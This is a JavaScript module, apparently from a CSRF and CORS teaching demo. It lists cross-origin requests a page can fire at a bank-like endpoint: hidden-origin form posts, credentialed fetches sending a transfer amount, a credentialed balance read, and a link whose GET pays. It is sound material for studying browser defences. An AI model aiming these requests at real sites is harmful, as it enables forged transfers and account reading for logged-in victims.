// The requests that a page can send to another origin. `send` resolves to true if the page can read
// the response. A page can never read the response to a navigation.

export const ATTEMPTS = [
  { id: 'form', title: 'Post a form', send: url => postForm(url, {}) },
  {
    id: 'hidden-form',
    title: 'Post a form that hides its origin (rel="noreferrer")',
    send: url => postForm(url, { rel: 'noreferrer' }),
  },
  {
    id: 'simple-fetch',
    title: "A simple fetch: POST, text/plain, credentials: 'include'",
    send: url => send(url, 'text/plain'),
  },
  {
    id: 'json-fetch',
    title: 'The same with JSON, which needs a preflight',
    send: url => send(url, 'application/json'),
  },
  {
    id: 'read',
    title: "Read the balance: fetch, credentials: 'include'",
    path: '/account',
    send: url => read(url, { credentials: 'include' }),
  },
  { id: 'link', title: 'Follow a link whose GET pays', path: '/account/transfers/by-link', send: followLink },
];

function postForm(action, { rel = 'noopener' }) {
  const form = Object.assign(document.createElement('form'), {
    action,
    method: 'post',
    target: '_blank',
    rel,
  });
  document.body.append(form);
  form.submit();
  form.remove();
  return Promise.resolve(false);
}

function followLink(href) {
  Object.assign(document.createElement('a'), { href, target: '_blank', rel: 'noopener' }).click();
  return Promise.resolve(false);
}

function send(url, contentType) {
  return read(url, {
    method: 'POST',
    credentials: 'include',
    headers: { 'Content-Type': contentType },
    body: '{"amount":10}',
  });
}

async function read(url, init) {
  try {
    await (await fetch(url, init)).text();
    return true;
  } catch {
    return false;
  }
}
